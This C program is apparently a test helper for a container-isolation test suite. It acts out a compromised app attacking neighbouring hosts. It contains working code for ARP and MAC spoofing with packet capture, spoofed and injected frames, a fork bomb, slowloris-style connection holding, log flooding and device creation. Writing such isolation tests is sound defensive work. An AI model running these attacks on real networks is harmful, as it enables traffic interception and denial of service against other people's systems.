/*
 * What an app that was taken over tries against its neighbours, for tests/e2e/hosts/attack.bats. It
 * is in the image of the sample app and is run by docker exec, so it has the rights of the app.
 *
 *   attack connect ADDRESS PORT   opens a TCP connection, within two seconds
 *   attack arp ADDRESS SECONDS    tells all hosts that ADDRESS is here, counts what comes for it
 *   attack mac ADDRESS SECONDS    sends frames with the MAC address of ADDRESS, counts likewise
 *   attack spoof ADDRESS TARGET   sends TARGET a UDP packet that seems to come from ADDRESS
 *   attack inject ADDRESS         sends ADDRESS a packet by its MAC address, past the host
 *   attack fork                   starts as many processes as it can
 *   attack log MEGABYTES          writes to the log of the container
 *   attack device PATH            makes a device there, the one that is /dev/zero
 *   attack hold ADDRESS PORT COUNT  begins a request on each of COUNT connections, holds them 10 s
 *
 * Prints one line about the result. Exit status: 0 if it worked, 1 if not, 2 if it was not allowed
 * to try.
 */
#define _GNU_SOURCE 1

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { ETHER = 14, IP = 20, UDP = 8, FRAME = 1600, PROBE_PORT = 9, PROCESSES = 10000 };

struct wire {
	int fd;
	struct sockaddr_ll at;
	uint8_t mac[6];
};

static _Noreturn void
refused(const char *what)
{
	printf("%s: %s\n", what, strerror(errno));
	exit(2);
}

static uint32_t
address_of(const char *text)
{
	struct in_addr address;

	if (inet_pton(AF_INET, text, &address) != 1) {
		printf("not an address: %s\n", text);
		exit(2);
	}
	return address.s_addr;
}

static struct wire
open_wire(void)
{
	struct wire wire = { .fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)) };
	struct ifreq request = { 0 };

	if (wire.fd < 0)
		refused("a raw socket");
	memcpy(request.ifr_name, "eth0", 5);
	if (ioctl(wire.fd, SIOCGIFHWADDR, &request) < 0)
		refused("eth0");
	memcpy(wire.mac, request.ifr_hwaddr.sa_data, 6);
	wire.at.sll_family = AF_PACKET;
	wire.at.sll_protocol = htons(ETH_P_ALL);
	wire.at.sll_ifindex = (int)if_nametoindex("eth0");
	wire.at.sll_halen = 6;
	if (bind(wire.fd, (struct sockaddr *)&wire.at, sizeof(wire.at)) < 0)
		refused("eth0");
	/*
	 * Takes frames for any address, so that those are seen that the bridge brings here by
	 * mistake.
	 */
	struct packet_mreq all = { .mr_ifindex = wire.at.sll_ifindex,
		.mr_type = PACKET_MR_PROMISC };
	setsockopt(wire.fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &all, sizeof(all));
	return wire;
}

static void
transmit(const struct wire *wire, const uint8_t *frame, size_t size)
{
	if (sendto(wire->fd, frame, size, 0, (const struct sockaddr *)&wire->at, sizeof(wire->at)) <
		0)
		refused("a frame");
}

/* The MAC address that the engine gives to an IP address. */
static void
own_mac(uint8_t *mac, uint32_t address)
{
	mac[0] = 0x02;
	mac[1] = 0x42;
	memcpy(mac + 2, &address, 4);
}

static void
send_arp(const struct wire *wire, const uint8_t *sender, uint32_t address, uint8_t operation)
{
	uint8_t frame[ETHER + 28] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
	const uint8_t head[] = { 0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, operation };

	memcpy(frame + 6, sender, 6);
	memcpy(frame + 12, head, sizeof(head));
	memcpy(frame + 22, sender, 6);
	memcpy(frame + 28, &address, 4);
	memcpy(frame + 38, &address, 4);
	transmit(wire, frame, sizeof(frame));
}

static uint16_t
checksum(const uint8_t *at, size_t size)
{
	uint32_t sum = 0;

	for (size_t i = 0; i + 1 < size; i += 2)
		sum += (uint32_t)(at[i] << 8 | at[i + 1]);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void
send_udp(const struct wire *wire, const uint8_t *from_mac, const uint8_t *to_mac, uint32_t from,
	uint32_t to)
{
	uint8_t frame[ETHER + IP + UDP + 4] = { 0 };
	const uint8_t ip[] = { 0x45, 0, 0, IP + UDP + 4, 0, 1, 0, 0, 64, IPPROTO_UDP };
	const uint8_t udp[] = { 0x30, 0x39, 0, PROBE_PORT, 0, UDP + 4 };

	memcpy(frame, to_mac, 6);
	memcpy(frame + 6, from_mac, 6);
	frame[12] = 0x08;
	memcpy(frame + ETHER, ip, sizeof(ip));
	memcpy(frame + ETHER + 12, &from, 4);
	memcpy(frame + ETHER + 16, &to, 4);
	uint16_t sum = checksum(frame + ETHER, IP);
	memcpy(frame + ETHER + 10, &sum, 2);
	memcpy(frame + ETHER + IP, udp, sizeof(udp));
	transmit(wire, frame, sizeof(frame));
}

/*
 * Counts the TCP packets for address that arrive here until deadline, a point in time in seconds.
 */
static unsigned
captured(const struct wire *wire, uint32_t address, time_t deadline,
	void (*each)(const struct wire *, uint32_t))
{
	uint8_t frame[FRAME];
	unsigned count = 0;
	struct pollfd ready = { .fd = wire->fd, .events = POLLIN };
	struct timespec now, sent = { 0 };

	do {
		clock_gettime(CLOCK_MONOTONIC, &now);
		if ((now.tv_sec - sent.tv_sec) * 1000 + (now.tv_nsec - sent.tv_nsec) / 1000000 >=
			50) {
			each(wire, address);
			sent = now;
		}
		if (poll(&ready, 1, 20) < 1)
			continue;
		ssize_t n = recv(wire->fd, frame, sizeof(frame), MSG_DONTWAIT);
		if (n >= ETHER + IP && frame[12] == 0x08 && frame[13] == 0 &&
			frame[ETHER + 9] == IPPROTO_TCP &&
			memcmp(frame + ETHER + 16, &address, 4) == 0)
			count++;
	} while (time(NULL) < deadline);
	return count;
}

static void
claim_address(const struct wire *wire, uint32_t address)
{
	send_arp(wire, wire->mac, address, 1);
	send_arp(wire, wire->mac, address, 2);
}

/* All addresses in these frames belong together. Only the port that they come from is wrong. */
static void
claim_mac(const struct wire *wire, uint32_t address)
{
	uint8_t mac[6];
	uint8_t nobody[ETHER + 46] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };

	own_mac(mac, address);
	send_arp(wire, mac, address, 2);
	memcpy(nobody + 6, mac, 6);
	nobody[12] = 0x88;
	nobody[13] = 0xb5;
	transmit(wire, nobody, sizeof(nobody));
}

static int
steal(const char *address, const char *seconds, void (*claim)(const struct wire *, uint32_t))
{
	struct wire wire = open_wire();
	time_t deadline = time(NULL) + (time_t)strtol(seconds, NULL, 10);
	unsigned count = captured(&wire, address_of(address), deadline, claim);

	printf("captured %u packets for %s\n", count, address);
	return count > 0 ? 0 : 1;
}

static int
try_connect(const char *address, const char *port)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = address_of(address) };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), error = 0;
	struct pollfd ready = { .fd = fd, .events = POLLOUT };
	socklen_t size = sizeof(error);

	to.sin_port = htons((uint16_t)strtol(port, NULL, 10));
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 && errno == EINPROGRESS &&
		poll(&ready, 1, 2000) == 1 &&
		getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size) == 0 && error == 0) {
		printf("connected to %s:%s\n", address, port);
		return 0;
	}
	printf("%s:%s does not answer\n", address, port);
	return 1;
}

/*
 * The test looks at TARGET to see if the packet arrived. gateway_mac is learned from packets that
 * come in.
 */
static int
spoof(const char *address, const char *target)
{
	struct wire wire = open_wire();
	uint8_t mac[6], to[6], frame[FRAME];

	try_connect(target, "9");
	memset(to, 0xff, 6);
	while (recv(wire.fd, frame, sizeof(frame), MSG_DONTWAIT) >= ETHER) {
		if (memcmp(frame, wire.mac, 6) == 0)
			memcpy(to, frame + 6, 6);
	}
	own_mac(mac, address_of(address));
	send_udp(&wire, wire.mac, to, address_of(address), address_of(target));
	send_udp(&wire, mac, to, address_of(address), address_of(target));
	printf("sent\n");
	return 0;
}

static int
inject(const char *address)
{
	struct wire wire = open_wire();
	uint8_t to[6];

	own_mac(to, address_of(address));
	send_udp(&wire, wire.mac, to, address_of("198.51.100.7"), address_of(address));
	printf("sent\n");
	return 0;
}

static int
fork_all(void)
{
	int count = 0;
	int gate[2];
	char byte;

	if (pipe(gate) < 0)
		refused("a pipe");
	for (; count < PROCESSES; count++) {
		pid_t pid = fork();
		if (pid < 0)
			break;
		if (pid == 0) {
			close(gate[1]);
			_exit(read(gate[0], &byte, 1) == 0 ? 0 : 1);
		}
	}
	printf("%d processes\n", count);
	close(gate[1]);
	while (wait(NULL) > 0)
		;
	return count == PROCESSES ? 0 : 1;
}

/* How many of the sockets are connected; what more there are is not told from those that wait. */
static unsigned
connected(const struct pollfd *all, unsigned count)
{
	struct sockaddr_in peer;
	unsigned nr = 0;

	for (unsigned i = 0; i < count; i++) {
		socklen_t size = sizeof(peer);
		if (getpeername(all[i].fd, (struct sockaddr *)&peer, &size) == 0)
			nr++;
	}
	return nr;
}

static int
hold(const char *address, const char *port, const char *many)
{
	static const char begun[] = "GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ";
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = address_of(address) };
	unsigned want = (unsigned)strtoul(many, NULL, 10), count = 0;
	struct pollfd *all = calloc(want, sizeof(all[0]));
	struct rlimit files = { 0 };

	getrlimit(RLIMIT_NOFILE, &files);
	files.rlim_cur = files.rlim_max;
	setrlimit(RLIMIT_NOFILE, &files);
	to.sin_port = htons((uint16_t)strtol(port, NULL, 10));
	for (; all != NULL && count < want; count++) {
		int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
		if (fd < 0)
			break;
		all[count] = (struct pollfd){ .fd = fd, .events = POLLOUT };
		connect(fd, (struct sockaddr *)&to, sizeof(to));
	}
	sleep(3);
	for (unsigned i = 0; i < count; i++)
		send(all[i].fd, begun, sizeof(begun) - 1, MSG_NOSIGNAL);
	printf("%u of %u connections to %s:%s\n", connected(all, count), count, address, port);
	fflush(stdout);
	sleep(10);
	return connected(all, count) > 0 ? 0 : 1;
}

static int
write_log(const char *megabytes)
{
	char line[1024];
	int fd = open("/proc/1/fd/1", O_WRONLY);

	if (fd < 0)
		refused("the log");
	memset(line, 'x', sizeof(line));
	line[sizeof(line) - 1] = '\n';
	for (long left = strtol(megabytes, NULL, 10) * 1024; left > 0; left--) {
		if (write(fd, line, sizeof(line)) < 0)
			refused("the log");
	}
	printf("written\n");
	return 0;
}

static int
make_device(const char *path)
{
	if (mknod(path, S_IFCHR | 0600, makedev(1, 5)) != 0)
		refused("a device");
	printf("made\n");
	return 0;
}

int
main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	if (strcmp(verb, "connect") == 0 && argc == 4)
		return try_connect(argv[2], argv[3]);
	if (strcmp(verb, "arp") == 0 && argc == 4)
		return steal(argv[2], argv[3], claim_address);
	if (strcmp(verb, "mac") == 0 && argc == 4)
		return steal(argv[2], argv[3], claim_mac);
	if (strcmp(verb, "spoof") == 0 && argc == 4)
		return spoof(argv[2], argv[3]);
	if (strcmp(verb, "inject") == 0 && argc == 3)
		return inject(argv[2]);
	if (strcmp(verb, "fork") == 0 && argc == 2)
		return fork_all();
	if (strcmp(verb, "hold") == 0 && argc == 5)
		return hold(argv[2], argv[3], argv[4]);
	if (strcmp(verb, "log") == 0 && argc == 3)
		return write_log(argv[2]);
	if (strcmp(verb, "device") == 0 && argc == 3)
		return make_device(argv[2]);
	printf("not understood\n");
	return 2;
}
